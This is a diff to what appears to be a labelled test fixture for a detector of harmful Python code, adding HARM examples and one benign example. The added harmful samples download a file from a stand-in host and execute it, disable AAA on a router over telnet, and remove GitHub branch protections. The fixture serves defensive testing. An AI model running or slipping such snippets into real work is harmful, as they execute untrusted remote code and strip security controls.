@@ -326,6 +326,28 @@ HARM = [
         "asyncio.run(go())",
         "python.exhaust.loop",
     ),
+    (
+        "import telnetlib\nt = telnetlib.Telnet('10.0.0.1')\nt.write(b'configure terminal\\nno aaa\\n')",
+        "python.network.changed",
+    ),
+    (
+        "import github\nfor one in github.Github('t').get_repo('a/b').get_branches():\n"
+        "    one.remove_protection()",
+        "python.cloud.access",
+    ),
+    (
+        "import os, tempfile, urllib.request\nfd, path = tempfile.mkstemp()\n"
+        "with os.fdopen(fd, 'wb') as f:\n"
+        "    f.write(urllib.request.urlopen('https://x.example/a').read())\n"
+        "os.chmod(path, 0o755)\nos.execv(path, ['a'])",
+        "python.run.downloaded",
+    ),
+    (
+        "import subprocess, tempfile, urllib.request\nwith tempfile.NamedTemporaryFile() as f:\n"
+        "    f.write(urllib.request.urlopen('https://x.example/a').read())\n"
+        "subprocess.run(['sh', f.name])",
+        "python.run.downloaded",
+    ),
 ]
 
 
@@ -374,6 +396,7 @@ HONEST = [
     "import asyncio\nasync def go(q):\n    while True:\n        item = await q.get()\n        print(item)",
     "from flask import Flask, jsonify\napp = Flask('a')\n@app.route('/x/<name>')\ndef x(name):\n"
     "    return jsonify(name=name, file=open('a.txt').read())",
+    "import os, sys\nos.execv(sys.executable, [sys.executable, *sys.argv])",
 ]
 
 
